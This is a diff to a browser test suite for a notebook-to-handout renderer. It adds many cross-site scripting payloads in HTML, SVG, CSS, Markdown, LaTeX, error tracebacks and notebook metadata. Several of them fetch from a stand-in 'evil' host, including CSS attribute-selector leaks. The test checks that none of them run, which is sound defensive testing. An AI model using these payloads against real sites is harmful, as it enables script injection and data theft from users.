@@ -35,7 +35,29 @@ const html = [
   `<a href="${evil}/q" ping="${evil}/r">x</a>`,
   `<math><maction actiontype="statusline" href="javascript:${run}">x</maction></math>`,
   `<!--><img src=x onerror='${run}'>-->`,
+  `<a href="java\tscript:${run}">x</a><a href=" javascript:${run}">x</a><a href="&#106;avascript:${run}">x</a>`,
+  `<svg><a xlink:href="javascript:${run}"><text y="9">x</text></a><animate attributeName="href" values="javascript:${run}"/><set onbegin='${run}'/></svg>`,
+  `<map name="m"><area href="javascript:${run}"></map><img usemap="#m" src="${evil}/aa.png" lowsrc="${evil}/ab.png">`,
+  `<iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe><frameset onload='${run}'><frame src="${evil}/ac"></frameset>`,
+  `<form id=f></form><button form=f formaction="javascript:${run}">x</button><input type=image src="${evil}/ad.png" formaction="${evil}/ae">`,
+  `<meta http-equiv="refresh" content="0;url=data:text/html,x"><meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
+  `<link rel="preload" as="image" href="${evil}/af.png"><link rel="prefetch" href="${evil}/ag"><link rel="dns-prefetch" href="//evil.test">`,
+  `<style>input[value^=a]{background:url(${evil}/ah)}p{background:image-set("${evil}/ai.png" 1x);cursor:url(${evil}/aj),auto}</style><input value=abc><p>x</p>`,
+  `<table background="${evil}/ak.png"><tr><td style="list-style:url(${evil}/al.png);content:url(${evil}/am.png)">x</td></tr></table>`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror='${run}'></annotation-xml><mtext><img src=x onerror='${run}'></mtext></math>`,
+  `<template><img src=x onerror='${run}'></template><xmp><img src=x onerror='${run}'></xmp><plaintext>`.replace(
+    "<plaintext>",
+    "",
+  ),
+  `<marquee onstart='${run}'>x</marquee><body onload='${run}' background="${evil}/an.png"><isindex action="javascript:${run}">`,
   `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
+];
+/** What Markdown, formulas and errors may bring. */
+const texts = [
+  `[x](javascript:${run}) [y](JaVaScRiPt:${run}) [z](data:text/html,<script>${run}</script>) [v](vbscript:x)`,
+  `![x](${evil}/ba.png) ![y](//evil.test/bb.png) ![z][r]\n\n[r]: ${evil}/bc.png`,
+  `<javascript:${run}> $\\href{javascript:${run}}{x}$ $\\includegraphics{${evil}/bd.png}$ $\\htmlStyle{background:url(${evil}/be)}{x}$`,
+  `::: hint <img src=x onerror='${run}'>\n<script>${run}</script>\n:::`,
 ];
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${run}'><script>${run}</script><style>@import url(${evil}/s.css);@font-face{font-family:x;src:url(${evil}/t)}text{font-family:x;fill:u\\72l(${evil}/u)}</style><image href="${evil}/v.png"/><foreignObject><iframe src="${evil}/w"></iframe><img src="${evil}/y"/></foreignObject><text x="9" y="9">x</text><rect id="seen" width="9" height="9"/></svg>`;
 
@@ -47,6 +69,20 @@ describe.skipIf(!browser)("a notebook that means harm, in a browser", () => {
       codeCell("x", [display({ "text/html": markup, "text/plain": "甲" })]),
       codeCell("x", [display({ "text/markdown": markup })]),
     ]);
+    const more = texts.flatMap((text) => [
+      markdownCell(text),
+      codeCell("x", [display({ "text/markdown": text }), display({ "text/latex": text })]),
+      codeCell(text, [
+        { output_type: "stream", name: "stderr", text },
+        {
+          output_type: "error",
+          ename: text,
+          evalue: text,
+          traceback: [`\u001b]8;;javascript:${run}\u0007${text}`],
+        },
+      ]),
+      { ...markdownCell("# x"), id: `"><img src=x onerror='${run}'>` },
+    ]);
     const drawings = [
       codeCell("x", [display({ "image/svg+xml": svg })]),
       codeCell("x", [display({ "text/html": `<p>图${svg}</p>` })]),
@@ -57,10 +93,19 @@ describe.skipIf(!browser)("a notebook that means harm, in a browser", () => {
       figureOutput({ data: [{ y: [1, 2] }], layout: { xaxis: { tickformat: "099999999" } } }),
       figureOutput({ data: [{ y: [1, 2] }], layout: { height: 1e9, width: 1e9 } }),
     ];
-    await writeHandouts(
-      [{ name: "x", notebook: notebookOf([...cells, ...drawings, codeCell("f", figures)]) }],
-      { out: folder, audiences: ["teacher"], renderer: undefined, log: () => {} },
-    );
+    const named = {
+      ...notebookOf([...cells, ...more, ...drawings, codeCell("f", figures)]),
+      metadata: {
+        title: `</title><script>${run}</script>`,
+        kernelspec: { name: "x", language: `ts"><script>${run}</script>` },
+      },
+    };
+    await writeHandouts([{ name: "x", notebook: named }], {
+      out: folder,
+      audiences: ["teacher"],
+      renderer: undefined,
+      log: () => {},
+    });
   }, 60_000);
 
   test("runs nothing, asks for nothing, goes nowhere, and its other figures live", async () => {
@@ -87,6 +132,10 @@ describe.skipIf(!browser)("a notebook that means harm, in a browser", () => {
       .toBe(2);
     expect(await page.locator("figure.plot[data-state=still]").count()).toBe(1);
     expect(await page.evaluate("document.documentElement.scrollHeight")).toBeLessThan(60_000);
+    const leads = await page.evaluate(
+      "[...document.querySelectorAll('[href],[src],[action],[formaction],[srcdoc],[background],[ping]')].map((e) => [...e.attributes].filter(({ name }) => /href|src|action|background|ping/.test(name)).map(({ value }) => value)).flat().filter((value) => /^[\\s\\0-\\x20]*(?!https?:|mailto:|data:image|data:font|#)[a-z][\\w+.-]*:/i.test(value))",
+    );
+    expect(leads).toEqual([]);
     const pictures = await page.evaluate(
       "[...document.images].filter((i) => i.src.startsWith('data:image/svg')).map((i) => i.naturalWidth > 0)",
     );
